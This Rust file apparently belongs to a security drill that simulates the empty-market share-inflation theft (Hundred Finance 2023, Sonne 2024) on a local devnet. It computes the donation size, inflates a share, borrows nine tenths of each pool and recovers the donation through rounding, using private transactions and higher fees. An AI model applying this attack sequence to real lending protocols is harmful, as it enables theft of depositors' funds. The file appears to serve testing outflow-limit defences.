//! The theft: empty-market share inflation by donation (Hundred Finance 2023, Sonne 2024), in several transactions or in one.

use super::DrillError;
use super::kit::{availableCall, outflowKeyCall};
use super::protocol::{
    ASSETS, EMPTY, Eyes, OWNER, Protocol, THIEF, allCall, borrowFromCall, call, cashCall, exitCall, mintCall,
    setUpCall, transferCall,
};
use crate::devnet::{Devnet, Lane};
use alloy_primitives::{Address, U256};
use ripcord_evm::Tx;

/// How the theft is carried out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Form {
    /// Set-up in one block, four loans and the exit in the next: six transactions, some of them private.
    SixTransactions,
    /// Everything in one private transaction.
    OnePrivate,
}

/// The attacker.
pub(super) struct Attack {
    form: Form,
    rng: fastrand::Rng,
    donation: U256,
    seed: U256,
}

/// A transaction of the attacker with what it is for.
pub(super) struct Move {
    /// Transaction, without nonce.
    pub tx: Tx,
    /// Lane.
    pub lane: Lane,
    /// For the timeline.
    pub what: String,
}

/// What the vault's limit lets out now; all there is without one.
fn outflow_max(eyes: &mut Eyes, protocol: &Protocol, vault: Address) -> Result<U256, DrillError> {
    if protocol.kit.is_none() {
        return Ok(U256::MAX);
    }
    let key = eyes.view(vault, outflowKeyCall {})?;
    eyes.view(vault, availableCall { key })
}

impl Attack {
    /// Prepares the capital: it is the attacker's own and sits in the attack contract long before.
    ///
    /// # Errors
    /// [`DrillError`].
    pub(super) fn prepare(devnet: &mut Devnet, protocol: &Protocol, form: Form, seed: u64) -> Result<Self, DrillError> {
        let Some(asset) = ASSETS.get(EMPTY) else { return Err(DrillError::Artifact("no empty market".to_owned())) };
        let (mut pools, mut eyes) = (U256::ZERO, Eyes::open(devnet));
        for (index, asset) in ASSETS.iter().enumerate().take(EMPTY) {
            let (_, vault) = protocol.pair(index)?;
            pools += asset.usd_e8(eyes.view(vault, cashCall {})?);
        }
        // The health check looks at one of two shares, so that the donation must be worth twice the loot over the collateral factor.
        let needed =
            pools * U256::from(2) * U256::from(10_000) / U256::from(asset.factor_bps) * U256::from(13) / U256::from(10);
        let donation = needed * asset.units(1) / U256::from(asset.price_e8);
        let seed_assets = asset.units(1);
        let (token, vault) = protocol.pair(EMPTY)?;
        // What could not be taken back in one go would be lost.
        let donation = donation.min(outflow_max(&mut eyes, protocol, vault)?.saturating_sub(seed_assets));
        super::protocol::send(devnet, call(OWNER, token, mintCall { to: THIEF, amount: donation + seed_assets }))?;
        super::protocol::settle(devnet)?;
        let fund = transferCall { to: protocol.attack, amount: donation + seed_assets };
        super::protocol::send(devnet, call(THIEF, token, fund))?;
        super::protocol::settle(devnet)?;
        Ok(Self { form, rng: fastrand::Rng::with_seed(seed ^ 0x00a7_7ac4), donation, seed: seed_assets })
    }

    /// First block of the theft.
    ///
    /// # Errors
    /// [`DrillError`].
    pub(super) fn open(&mut self, devnet: &Devnet, protocol: &Protocol) -> Result<Vec<Move>, DrillError> {
        let (_, vault) = protocol.pair(EMPTY)?;
        let (seed, donation) = (self.seed, self.donation);
        match self.form {
            Form::SixTransactions => {
                let lane = if self.rng.u8(..10) < 7 { Lane::Private } else { Lane::Public };
                let tx = self.bid(call(THIEF, protocol.attack, setUpCall { vault, seed, donation }));
                let what = "makes 2 shares of the empty market worth millions by a donation".to_owned();
                Ok(vec![Move { tx, lane, what }])
            }
            Form::OnePrivate => {
                let (mut vaults, mut amounts) = (Vec::new(), Vec::new());
                for (vault, amount) in self.targets(devnet, protocol)? {
                    vaults.push(vault);
                    amounts.push(amount);
                }
                let whole = allCall { vault, seed, donation, vaults, amounts };
                let tx = Tx { gas_limit: 5_000_000, ..self.bid(call(THIEF, protocol.attack, whole)) };
                let what = "inflates, borrows everything and takes the donation back".to_owned();
                Ok(vec![Move { tx, lane: Lane::Private, what }])
            }
        }
    }

    /// Second block of the theft.
    ///
    /// # Errors
    /// [`DrillError`].
    pub(super) fn drain(&mut self, devnet: &Devnet, protocol: &Protocol) -> Result<Vec<Move>, DrillError> {
        if self.form == Form::OnePrivate {
            return Ok(Vec::new());
        }
        let mut moves = Vec::new();
        for ((vault, assets), asset) in self.targets(devnet, protocol)?.into_iter().zip(&ASSETS) {
            let what = format!("borrows the {} pool against the inflated share", asset.symbol);
            let tx = self.bid(call(THIEF, protocol.attack, borrowFromCall { vault, assets }));
            // The first loan is always private; of the others the seed decides.
            let lane = if moves.is_empty() || self.rng.bool() { Lane::Private } else { Lane::Public };
            moves.push(Move { tx, lane, what });
        }
        let tx = self.bid(call(THIEF, protocol.attack, exitCall {}));
        let what = "takes the donation back by a rounding error, leaves the debt".to_owned();
        moves.push(Move { tx, lane: Lane::Private, what });
        Ok(moves)
    }

    /// What can be borrowed from each pool: nine tenths of the cash, so that honest withdrawals in the same block do not spoil it. Where
    /// outflows are limited, nine tenths of what the limit lets out, and no more in all than the donation secures: a thief knows
    /// the contracts.
    fn targets(&self, devnet: &Devnet, protocol: &Protocol) -> Result<Vec<(Address, U256)>, DrillError> {
        let (mut targets, mut eyes) = (Vec::new(), Eyes::open(devnet));
        let each_usd_e8 = self.secures() / U256::from(EMPTY);
        for (index, asset) in ASSETS.iter().enumerate().take(EMPTY) {
            let (_, vault) = protocol.pair(index)?;
            let mut amount = eyes.view(vault, cashCall {})?.min(outflow_max(&mut eyes, protocol, vault)?)
                * U256::from(9)
                / U256::from(10);
            if protocol.kit.is_some() {
                amount = amount.min(asset.units(1) * each_usd_e8 / U256::from(asset.price_e8));
            }
            targets.push((vault, amount));
        }
        Ok(targets)
    }

    /// Loans that the donation secures, 1e-8 USD: the health check looks at one of two shares.
    fn secures(&self) -> U256 {
        let Some(asset) = ASSETS.get(EMPTY) else { return U256::ZERO };
        asset.usd_e8(self.donation) * U256::from(asset.factor_bps) / U256::from(2 * 10_000) * U256::from(10)
            / U256::from(13)
    }

    /// Attackers pay more than users do.
    fn bid(&mut self, tx: Tx) -> Tx {
        Tx { priority_fee: Some(u128::from(self.rng.u64(3..=40)) * 1_000_000_000), ..tx }
    }
}
